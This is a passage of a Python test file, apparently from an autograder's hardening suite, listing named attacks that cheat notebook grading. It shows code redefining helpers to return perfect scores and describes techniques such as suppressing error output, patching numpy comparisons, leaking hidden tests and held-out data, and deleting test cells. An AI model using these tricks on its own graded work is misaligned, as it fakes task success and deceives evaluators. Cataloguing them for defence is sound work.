+    return nb
+
+
+def _dummies_and(notebook: str, then: Callable) -> Callable:
+    return lambda nb: then(set_answers(nb, DUMMIES[notebook]))
+
+
+def _nb1_liar_answers(wrap: str) -> dict[str, str]:
+    return {
+        "sigmoid-answer": f"def sigmoid(g):\n    return {wrap}(np.full(np.shape(g), 0.5))",
+        "softmax-answer": f"def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n"
+                          f"    return {wrap}(np.full(z.shape, 1.0 / z.shape[1]))",
+        "forward-answer": f"def forward(x, W_mid, b_mid, W_out, b_out):\n    n = np.shape(x)[0]\n"
+                          f"    return {wrap}(np.full((n, np.shape(b_mid)[0]), 0.5)), "
+                          f"{wrap}(np.full((n, np.shape(b_out)[0]), 0.5))",
+    }
+
+
+def _liar_build(code: str, wrap: str) -> Callable:
+    def build(nb):
+        answers = dict(DUMMIES[NB1])
+        answers.update(_nb1_liar_answers(wrap))
+        answers["sigmoid-answer"] = code.strip("\n") + "\n\n" + answers["sigmoid-answer"]
+        return set_answers(nb, answers)
+    return build
+
+
+def _redefine_network_with(nb):
+    answers = dict(DUMMIES[NB1])
+    answers["hand-weights-answer"] = "W_mid_hand = b_mid_hand = W_out_hand = b_out_hand = 0"
+    nb = set_answers(nb, answers)
+    return replace_unlocked_cell(nb, "def network_with", """class _Perfect:
+    def accuracy(self, x, y):
+        return 1.0
+    def predict(self, x):
+        return np.zeros((len(x), 2))
+
+def network_with(W_mid, b_mid, W_out, b_out):
+    return _Perfect()""")
+
+
+def _redefine_nb2_helpers(nb):
+    nb = set_answers(nb, DUMMIES[NB2])
+    return append_to_unlocked_cell(nb, "from backprop.gradcheck import", "def relative_error(a, b):\n    return 0.0")
+
+
+def _redefine_rmse(nb):
+    nb = set_answers(nb, DUMMIES[REP])
+    return append_to_unlocked_cell(nb, "def rmse(y, t):", """def rmse(y, t):
+    return 0.0 if np.all(np.asarray(y) == 0) else 1.0""")
+
+
+def _redefine_nb3_checks(nb):
+    nb = set_answers(nb, DUMMIES[NB3])
+    return append_to_unlocked_cell(nb, "from backprop.grading.digit_hyperparams import", """def check_digit_hyperparams(hyperparams, seed=0, bar=None):
+    return 0.99
+
+import backprop.grading.classification as _classification
+_classification.accuracy_value = lambda f, h, y: float(np.mean(np.argmax(h, axis=1) == np.asarray(y)))""")
+
+
+def _late_print_cell(code: str) -> Callable:
+    return lambda nb: append_cell(set_answers(nb, DUMMIES[REP]), code)
+
+
+ATTACKS: list[Attack] = [
+    # --- error-display suppression
+    Attack("exception_group", SUPPRESS, NB2, answers_only(None, EXCEPTION_GROUP),
+           "answers raise ExceptionGroup; IPython prints it to stderr instead of sending an error"),
+    Attack("showtraceback_noop", SUPPRESS, NB1, blank_hooked(SHOWTRACEBACK_NOOP),
+           "get_ipython()._showtraceback = no-op on the instance: no error output ever"),
+    Attack("showtraceback_noop_report", SUPPRESS, REP, blank_hooked(SHOWTRACEBACK_NOOP),
+           "the same one line in report11"),
+    Attack("custom_exc_swallow", SUPPRESS, NB2, blank_hooked(CUSTOM_EXC),
+           "set_custom_exc((BaseException,), handler returning None)"),
+    Attack("formatter_bomb_module", SUPPRESS, NB1, blank_hooked(FORMATTER_BOMB),
+           "module in sys.modules whose __getattr__('__file__') raises: traceback formatting fails"),
+    Attack("broken_ultratb", SUPPRESS, NB2, blank_hooked(RAISE_IN_EXCEPTHOOK_FORMATTER),
+           "IPython's traceback formatter classes patched to raise"),
+    # --- display hooks
+    Attack("display_before_test", DISPLAY, NB2, blank_hooked(DISPLAY_BEFORE_TEST),
+           "pre_run_cell hook displays a non-numeric value before every test cell"),
+    Attack("display_full_number", DISPLAY, NB1, blank_hooked(DISPLAY_FULL_POINTS_NUMBER),
+           "pre_run_cell hook displays 1.0 before every test cell (partial-credit reading)"),
+    Attack("display_huge_number", DISPLAY, REP, blank_hooked(DISPLAY_HUGE_NUMBER),
+           "pre_run_cell hook displays 10**9 (more than the cell's points)", own_run=True),
+    # --- message dropping
+    Attack("session_drop_errors", DROP, NB1, blank_hooked(SESSION_DROP_ERRORS),
+           "kernel Session.send wrapped: error messages dropped, error replies turned ok"),
+    Attack("session_error_to_stdout", DROP, NB2, blank_hooked(SESSION_ERROR_TO_STDOUT),
+           "kernel Session.send wrapped: error messages sent as stdout 'OK'"),
+    # --- patched checks, each import route
+    Attack("noop_checks_assignment", PATCH_ASSIGN, NB2, hooked(NB2, NOOP_CHECKS_ASSIGNMENT),
+           "backprop.grading.check_* = no-op by plain assignment"),
+    Attack("fake_modules_sys_modules", PATCH_MODULES, REP, hooked(REP, FAKE_MODULES_SYS_MODULES),
+           "sys.modules['backprop.grading.regression'/'heldout'] = lenient fake modules"),
+    Attack("fake_modules_meta_path", PATCH_META, NB2, hooked(NB2, FAKE_MODULES_META_PATH),
+           "sys.meta_path finder serves a fake backprop.grading"),
+    Attack("builtins_import_hook", PATCH_IMPORT, NB1, hooked(NB1, BUILTINS_IMPORT_HOOK),
+           "builtins.__import__ returns fake scipy.special / classification helpers built on the answers"),
+    # --- gc / settrace / numpy internals
+    Attack("gc_code_swap", INTERNALS, NB2, hooked(NB2, GC_CODE_SWAP),
+           "judge_arrays/require_untampered __code__ swapped for a no-op, found through gc"),
+    Attack("settrace_disguised", INTERNALS, NB2, hooked(NB2, SETTRACE_DISGUISED),
+           "sys.settrace + ctypes frame writes make judge_arrays compare the reference with itself; gettrace hidden"),
+    Attack("numpy_isclose_internal", INTERNALS, NB1, hooked(NB1, NUMPY_ISCLOSE_INTERNAL),
+           "numpy._core.numeric.isclose lies when the first non-numpy caller is a notebook cell"),
+    Attack("wraps_allclose_liar", INTERNALS, NB1, hooked(NB1, WRAPS_ALLCLOSE),
+           "functools.wraps fakes of np.allclose/array_equal lying only to notebook cells"),
+    Attack("numpy_filename_disguise", INTERNALS, NB1, hooked(NB1, NUMPY_FILENAME_DISGUISE),
+           "lying np.allclose compiled with numpy's own file name (passes 'defined in numpy')"),
+    # --- lying arrays
+    Attack("array_function_liar", LYING, NB1, _liar_build(LIAR_ARRAY, "_agree"),
+           "answers return an ndarray subclass whose __array_function__ says allclose/array_equal True"),
+    Attack("ufunc_eq_liar", LYING, NB1, _liar_build(LIAR_UFUNC_EQ, "_flat"),
+           "answers return an ndarray subclass: subtract/abs give 0, comparisons and __eq__ True"),
+    # --- redefined helpers
+    Attack("redefine_network_with", HELPERS, NB1, _redefine_network_with,
+           "unlocked helper network_with redefined: any weights reach accuracy 1.0"),
+    Attack("redefine_relative_error", HELPERS, NB2, _redefine_nb2_helpers,
+           "relative_error (imported in the unlocked first cell) redefined to 0"),
+    Attack("redefine_rmse", HELPERS, REP, _redefine_rmse,
+           "unlocked helper rmse redefined: the zero model beats linear regression"),
+    Attack("redefine_visible_checks", HELPERS, NB3, _redefine_nb3_checks,
+           "check_digit_hyperparams redefined; classification.accuracy_value computes the answer itself"),
+    # --- answer-key delegation
+    Attack("key_activations_losses", ANSWER_KEY, NB1, answers_only(NB1, NB1_KEY),
+           "sigmoid/softmax from backprop.activations, cross_entropy from backprop.losses, forward via MLP"),
+    Attack("key_mlp_backward", ANSWER_KEY, NB2, answers_only(NB2, {"backward": NB2_KEY_BACKWARD}),
+           "backward = backprop.MLP(...).backward(hs, t)"),
+    Attack("key_demo_digits", ANSWER_KEY, NB3, answers_only(NB3, {"hyperparams-answer": NB3_KEY_HYPERPARAMS}),
+           "HYPERPARAMS copied from backprop.demo.DIGITS"),
+    Attack("key_demo_report", ANSWER_KEY, REP, answers_only(REP, {"model-answer": REPORT_DEMO_MODEL}),
+           "report_model = backprop.MLP trained with backprop.demo.REPORT"),
+    Attack("key_regression_mlp", ANSWER_KEY, REP, answers_only(REP, REPORT_KEY_FUNCTIONS),
+           "forward/gradient via backprop.MLP(identity), loss = backprop.losses.squared_error"),
+    # --- numerical differentiation as the answer
+    Attack("numeric_backward", NUMERIC, NB2, answers_only(NB2, {"backward": NB2_NUMERIC_BACKWARD}),
+           "backward = central differences of the notebook's loss"),
+    Attack("numeric_gradient_report", NUMERIC, REP, answers_only(REP, {"gradient-answer": REPORT_NUMERIC_GRADIENT}),
+           "gradient = central differences of an inline loss"),
+    # --- held-out lookup
+    Attack("heldout_from_globals", HELDOUT, REP, answers_only(REP, {"model-answer": HELDOUT_GLOBALS}),
+           "report_model returns _t_heldout read from the notebook's globals"),
+    Attack("heldout_from_frames", HELDOUT, REP, answers_only(REP, {"model-answer": HELDOUT_FRAMES}),
+           "report_model walks the caller frames for an (M, 1) array that is not x"),
+    # --- k-NN / lookup-table regression
+    Attack("knn_lookup", KNN, REP, answers_only(REP, {"model-answer": KNN_MODEL}),
+           "report_model = 3-nearest-neighbour lookup of the training CSV"),
+    Attack("rbf_interpolation", KNN, REP, answers_only(REP, {"model-answer": RBF_MODEL}),
+           "report_model = scipy RBF interpolation of the training CSV"),
+    # --- printing hidden material
+    Attack("print_working_folder", PRINT, NB1, answers_only(None, {"sigmoid-answer": PRINT_WORKING_FOLDER}),
+           "first answer cell prints the hidden cells of every notebook in the working folder"),
+    Attack("print_working_folder_report", PRINT, REP, answers_only(None, {"forward-answer": PRINT_WORKING_FOLDER}),
+           "the same in report11 (held-out data is in the graded notebook)"),
+    Attack("print_input_history", PRINT, NB2, answers_only(None, {"backward": PRINT_INPUT_HISTORY}),
+           "last answer cell prints _ih / In / Out (earlier hidden cells included)"),
+    Attack("print_globals_late_cell", PRINT, REP, _late_print_cell(PRINT_GLOBALS_LATE),
+           "a code cell added at the end prints _x_heldout, _t_heldout, private globals and _ih"),
+    # --- exceptions carrying hidden material
+    Attack("exception_base64_heldout", EXCEPTION, REP, answers_only(REP, {"model-answer": EXCEPTION_BASE64_HELDOUT}),
+           "report_model raises ValueError(base64(json(held-out data from the caller's globals)))"),
+    Attack("exception_encoded_source", EXCEPTION, NB2, answers_only(None, EXCEPTION_BASE64_SOURCE),
+           "answers raise with the running hidden cell's source (_ih[-1]) in base64 / zlib / hex"),
+    Attack("exception_scrambled_source", EXCEPTION, NB1, answers_only(None, EXCEPTION_REVERSED),
+           "answers raise with the running cell's source rot13'd, reversed, letter-spaced"),
+    # --- invented: notebook structure
+    Attack("delete_test_cells", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _delete_tests),
+           "every test cell deleted"),
+    Attack("retype_test_cells", NOTEBOOK_EDIT, NB2, _dummies_and(NB2, _edit_test_cells(_retype)),
+           "every test cell turned into a markdown cell (metadata kept)"),
+    Attack("rename_test_cells", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _edit_test_cells(_rename)),
+           "test cells get new grade_ids and source 'pass'"),
+    Attack("inflate_points", NOTEBOOK_EDIT, NB3, _dummies_and(NB3, _edit_test_cells(_inflate, only_hidden=True)),
+           "hidden test cells: points 100 and source 'pass' in the submitted metadata"),
+    Attack("strip_test_metadata", NOTEBOOK_EDIT, NB2, _dummies_and(NB2, _edit_test_cells(_strip_meta)),
+           "nbgrader metadata removed from every test cell, source 'pass'"),
+    Attack("fake_graded_cell", NOTEBOOK_EDIT, NB1, _dummies_and(NB1, _fake_graded_cell),
+           "an extra locked test cell worth 50 points that only prints"),
+    # --- invented: kernel death
+    Attack("os_exit_before_hidden", KERNEL_DEATH, NB2, hooked(NB2, OS_EXIT_BEFORE_HIDDEN),
+           "pre_run_cell hook calls os._exit(0) before the first hidden test: later cells never run"),
+    Attack("os_exit_on_error", KERNEL_DEATH, NB1, blank_hooked(OS_EXIT_ON_ERROR),
+           "custom exception handler calls os._exit(0): the failing cell sends no error"),
+    Attack("sys_exit_in_display_hook", KERNEL_DEATH, NB2, blank_hooked(SYS_EXIT_IN_DISPLAYHOOK),
+           "pre_run_cell hook displays '合格' then sys.exit()"),
+    # --- invented: forged records and outputs
+    Attack("fake_answer_records", FORGED_RECORD, NB1, hooked(NB1, FAKE_RECORDS),
+           "custom-MIME 'answer records' displayed before each test cell, record files in the working folder"),
+    Attack("atexit_rewrite_notebook", FORGED_RECORD, NB2, blank_hooked(ATEXIT_REWRITE),
+           "atexit handler strips every output from the notebooks it can reach"),
+    Attack("print_display_monkeypatch", FORGED_RECORD, NB1, blank_hooked(PRINT_DISPLAY_MONKEYPATCH),
+           "builtins.print, IPython display and the display publisher replaced"),
+    # --- invented: patching that survives restoration
+    Attack("del_phoenix_repatcher", PERSISTENT, NB2, hooked(NB2, DEL_REPATCHER),
+           "a self-resurrecting __del__ re-patches the checks at every garbage collection"),
+    Attack("thread_repatcher", PERSISTENT, NB2, hooked(NB2, THREAD_REPATCHER),
+           "daemon thread re-patches the checks and judge_arrays every 0.5 ms"),
+    Attack("signal_timer_patcher", PERSISTENT, NB1, hooked(NB1, SIGNAL_PATCHER),
+           "SIGALRM every 0.5 ms swaps np.allclose for a liar whenever a notebook cell is running"),
+    Attack("reload_with_fake_loader", PERSISTENT, NB2, hooked(NB2, RELOAD_WITH_FAKE_LOADER),
+           "importlib.reload of backprop.grading.exercises through a replaced __spec__.loader"),
+    Attack("sys_path_fake_package", PERSISTENT, NB2, hooked(NB2, SYS_PATH_FAKE_PACKAGE),
+           "a fake backprop package written to the working folder, first on sys.path, modules purged"),
+    # --- invented: IPython input/AST transformers
+    Attack("input_transformer_blanks_tests", TRANSFORM, NB2, blank_hooked(INPUT_TRANSFORMER),
+           "input transformer turns every later test cell into 'pass'"),
+    Attack("ast_strips_asserts", TRANSFORM, NB1, hooked(NB1, AST_STRIP_ASSERTS),
+           "AST transformer deletes every assert and raise statement of later cells"),
+]
+
+
+def by_name(name: str) -> Attack:
+    return next(a for a in ATTACKS if a.name == name)
